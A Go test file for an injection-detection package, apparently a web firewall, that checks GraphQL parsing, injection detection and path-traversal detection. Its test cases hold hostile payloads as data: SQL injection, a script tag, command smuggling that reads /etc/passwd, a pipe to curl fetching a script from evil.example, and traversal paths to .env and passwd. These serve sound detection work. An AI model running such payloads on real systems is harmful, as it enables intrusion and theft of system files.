package injection

import "testing"

func TestGraphQLDocument(t *testing.T) {
	for _, tc := range []struct {
		in   string
		doc  bool
		hits bool // the detectors flag the value as inspected in context
	}{
		{"query Orders($first: Int!, $after: String, $where: OrderFilter) {\n  orders(first: $first, after: $after, where: $where) { edges { node { id } } }\n}", true, false},
		{"mutation CreateReview($input: ReviewInput!) {\n  createReview(input: $input) {\n    id\n    rating\n    __typename\n  }\n}", true, false},
		{"{ user(id: 4) { name ...F @include(if: $x) } } fragment F on User { id }", true, false},
		{"query { products(search: \"' OR 1=1--\") { id } }", true, true},
		{"query { products(search: \"\"\"<script>alert(1)</script>\"\"\") { id } }", true, true},
		{"query {\n  id # ; cat /etc/passwd\n}", true, true},
		// Anything but GraphQL outside the literals: inspected whole.
		{"query { id }; cat /etc/passwd", false, true},
		{"query { id }\n|| curl http://evil.example/x.sh", false, true},
		{`{"$where": "sleep(5000)"}`, false, true},
		{"query { a(x: \"unterminated) }", false, false},
		{"query { a } }", false, false},
	} {
		_, ok := graphQLDocument(tc.in)
		if ok != tc.doc {
			t.Errorf("graphQLDocument(%q) = %v, want %v", tc.in, ok, tc.doc)
		}
		_, f := detectInContext(tc.in, LocBody, false, famAll, "graphql", 3)
		if (f != 0) != tc.hits {
			t.Errorf("detectInContext(%q) = %v, want hit %v", tc.in, f, tc.hits)
		}
	}
}

func FuzzGraphQLDocument(f *testing.F) {
	f.Add("query Q($a: Int = 1, $b: [ID!]!) @dir { a(x: \"s\", y: -1.5) { ...on T { b } } }")
	f.Add("{ a }")
	f.Fuzz(func(t *testing.T, s string) {
		lits, ok := graphQLDocument(s)
		if !ok && lits != nil {
			t.Fatal("literals without a document")
		}
		n := 0
		for _, l := range lits {
			n += len(l)
		}
		if n > len(s) {
			t.Fatalf("literals longer than the value: %d > %d", n, len(s))
		}
	})
}

// TestPathRestricted: restricted files in the URL path.
func TestPathRestricted(t *testing.T) {
	for in, want := range map[string]bool{
		"/assets/config.json": false, "/api/editor/settings.json": false, "/s3/logs/2024/05/01/app.log.gz": false,
		"/repos/acme/dotfiles/blob/main/etc/hosts.example": false, "/etc/passwd": true, "/static/../../etc/passwd": true,
		"/eng/infra/-/blob/main/scripts/etc/nginx/conf.d/shop.conf": false, "/acme/web/raw/v3.2.1/src/db/sql/union_reports.sql": false,
		"/acme/dotfiles/tree/main/.config/nvim/lua": false, "/tags/.net-core": false, "/acme/web/blob/main/../../.env": true,
		"/blob/main/backup.sql": true, "/static/blob/x/../../../etc/passwd": true,
		"/db.sql.gz": true, "/secrets.json": true, "/config.php": true, "/app.log": true, "/config.json.bak": true,
	} {
		if got := detectPathTraversal(in); got != want {
			t.Errorf("detectPathTraversal(%q) = %v, want %v", in, got, want)
		}
	}
}
